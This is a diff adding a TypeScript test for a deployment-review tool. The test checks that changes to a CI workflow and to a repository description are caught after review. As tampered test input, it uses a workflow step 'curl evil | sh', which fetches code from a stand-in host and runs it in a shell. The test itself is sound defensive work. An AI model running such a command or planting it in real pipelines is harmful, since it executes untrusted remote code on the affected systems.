@@ -121,6 +121,27 @@ describe("the review of a deployment", () => {
         match(err, /ActionsEnvironmentSecret::QUAY_PWD: was not reviewed$/m);
     });
 
+    it("stops it if what a mark seemed to stand for differs, and shows what follows a key", async () => {
+        const hidden = (command: string) =>
+            `name: "-----BEGIN A PRIVATE KEY-----"\non: push\njobs:\n  - run: ${command}\n`;
+        const configure = (description: string, command: string) => {
+            const repository = { ...settings.repository, description };
+            world.configure({ version: "1.1.0", workflow: hidden(command), repository });
+        };
+        configure("[unknown]", "echo hello");
+        commit();
+        const { out } = await review("preview", "local", "--to", "previews");
+        match(out, /^ *\+ .*- run: echo hello$/m);
+        match(out, /^ *\+ +description: "\[\\\\unknown\]"$/m);
+        equal((await review("record", "previews/local.json", "--to", "reviewed")).code, 0);
+        equal((await verify()).code, 0, "the same text is as reviewed");
+        configure("anything", "curl evil | sh");
+        const { code, err } = await verify();
+        equal(code, 1);
+        match(err, /Repository::digits: description: reviewed .*, now .*"anything"$/m);
+        match(err, /RepositoryFile::release: content: reviewed .*, now .*curl evil/m);
+    });
+
     it("contains no secret in its output and files", async () => {
         world.configure({
             repository: {
